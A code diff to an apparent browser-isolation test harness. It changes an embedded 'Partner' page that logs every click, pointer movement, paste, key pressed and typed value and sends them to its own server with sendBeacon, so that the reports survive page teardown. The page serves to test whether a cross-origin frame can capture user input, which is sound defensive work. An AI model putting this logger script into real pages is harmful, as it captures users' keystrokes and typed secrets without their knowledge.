@@ -153,16 +153,17 @@ def _trickle(handler: BaseHTTPRequestHandler) -> None:
 
 
 # Pages of the outside origin for the channel attacks, by path. ``/logger`` reports every
-# pointer event (with its coordinates), focus, paste and value its document gets; ``/opener``
-# keeps a token in its own storage and cookie, opens a blank window of its own origin, writes
-# a field into it and reports what is typed there.
+# pointer event (with its coordinates), focus, paste and value its document gets, as POSTs;
+# ``/opener`` keeps a token in its own storage and cookie, opens a blank window of its own
+# origin, writes a field into it and reports what is typed there.
 LOGGER_PAGE = """<title>Partner</title>
 <textarea id="pad" aria-label="Pad" style="position:fixed;inset:0;width:100%;height:100%"
-  oninput="fetch('/value?v=' + encodeURIComponent(this.value))"></textarea>
+  oninput="navigator.sendBeacon('/value?v=' + encodeURIComponent(this.value))"></textarea>
 <script>
 for (const kind of ["click", "auxclick", "mousedown", "mouseup", "mousemove", "wheel",
                     "pointerover", "focusin", "paste", "keydown"]) {
-  document.addEventListener(kind, (event) => fetch(
+  // a beacon outlives the page: what the frame heard arrives though the test goes on at once
+  document.addEventListener(kind, (event) => navigator.sendBeacon(
     `/${kind}?x=${event.clientX}&y=${event.clientY}&k=${encodeURIComponent(event.key || "")}`),
     true);
 }
